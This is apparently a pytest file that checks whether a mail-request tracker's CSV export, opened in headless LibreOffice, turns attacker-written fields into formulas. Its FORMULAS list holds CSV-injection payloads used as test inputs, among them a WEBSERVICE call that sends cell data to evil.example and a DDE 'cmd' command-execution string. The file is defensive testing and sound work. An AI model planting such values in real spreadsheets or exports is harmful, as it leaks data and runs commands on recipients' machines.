"""A real spreadsheet opens the CSV (T8): what a mail wrote is text in every cell, numbers are numbers, no formula."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

from inboxwatch.model import Request
from inboxwatch.views.requests import COLUMNS, csv_text
from tests.test_report import MARKUP
from tests.test_trends import answered, waiting

pytestmark = pytest.mark.server("soffice")

NUMBERS = {"score", "target_seconds", "elapsed_seconds", "business_seconds", "chasers"}
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example";"click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    '"=1+1',
    "1;=1+1",
    "a\r\n=1+1",
]
READ = "Text - txt - csv (StarCalc):44,34,76,1,,0,{quoted},{special},false,false,false,0,{evaluate}"
"""Comma, double quote, UTF-8, from line 1; whether quoted means text, numbers are looked for, formulas computed."""
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"

Cell = tuple[str, str]
"""Type and text."""


def requests() -> list[Request]:
    """Hostile words in every field that a stranger writes."""
    found = []
    for number, text in enumerate([*FORMULAS, *MARKUP.values()]):
        made = waiting if number % 2 else answered
        found.append(made(f"r{number}", subject=text, sender=f"{text}@corp.example", department=text))
    return found


def opened(folder: Path, written: str, *, quoted: bool, special: bool, evaluate: bool) -> list[list[Cell]]:
    """Have it opened and stored as flat XML; returns the cells."""
    source = folder / "requests.csv"
    source.write_text(written, encoding="utf-8", newline="")
    said = {"quoted": quoted, "special": special, "evaluate": evaluate}
    words = READ.format(**{name: str(value).lower() for name, value in said.items()})
    command = [
        *("soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--norestore"),
        *(f"--infilter={words}", "--convert-to", "fods", "--outdir", str(folder), str(source)),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    made = folder / "requests.fods"
    assert made.exists(), done.stdout + done.stderr
    parser = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True)
    sheet = etree.parse(str(made), parser).find(f".//{_TABLE}table")
    assert sheet is not None
    assert not sheet.findall(f".//{_TEXT}a"), "a link"
    return [list(_cells(row)) for row in sheet.iter(f"{_TABLE}table-row")]


def _cells(row: etree._Element) -> Iterator[Cell]:
    for cell in row.iter(f"{_TABLE}table-cell"):
        assert cell.get(f"{_TABLE}formula") is None, etree.tostring(cell)
        text = "\n".join("".join(part.itertext()) for part in cell.iter(f"{_TEXT}p"))
        kind = cell.get(f"{_OFFICE}value-type", "")
        yield from [(kind, text)] * min(int(cell.get(f"{_TABLE}number-columns-repeated", "1")), len(COLUMNS))


def test_numbers_are_numbers_and_all_else_is_text(tmp_path: Path) -> None:
    """Read as people are told to: what is quoted is text."""
    written = csv_text(requests())
    rows = list(csv.reader(io.StringIO(written)))
    cells = opened(tmp_path, written, quoted=True, special=False, evaluate=False)
    assert [text for _, text in cells[0][: len(COLUMNS)]] == list(COLUMNS)
    for wanted, found in zip(rows[1:], cells[1:], strict=False):
        for name, value, (kind, text) in zip(COLUMNS, wanted, found, strict=False):
            assert kind == ("" if not value else "float" if name in NUMBERS else "string"), (name, value)
            if kind == "string":
                assert text.split() == value.split(), name
    assert len(cells) >= len(rows)


@pytest.mark.parametrize("special", [False, True])
def test_t8_nothing_is_a_formula_even_where_formulas_are_computed(tmp_path: Path, special: bool) -> None:
    """The most careless way to open it: quotes mean nothing, formulas are computed."""
    written = csv_text(requests())
    cells = opened(tmp_path, written, quoted=False, special=special, evaluate=True)
    subjects = [row[COLUMNS.index("subject")] for row in cells[1 : 1 + len(FORMULAS)]]
    assert {kind for kind, _ in subjects} == {"string"}
    assert all("1+1" in text or "evil" in text or "cmd" in text or "SUM" in text for _, text in subjects)


def test_this_test_can_tell(tmp_path: Path) -> None:
    """The same careless way computes what is not made harmless, so the tests above would see it."""
    with pytest.raises(AssertionError, match="formula"):
        opened(tmp_path, '"a","b"\n"=1+1","x"\n', quoted=False, special=True, evaluate=True)
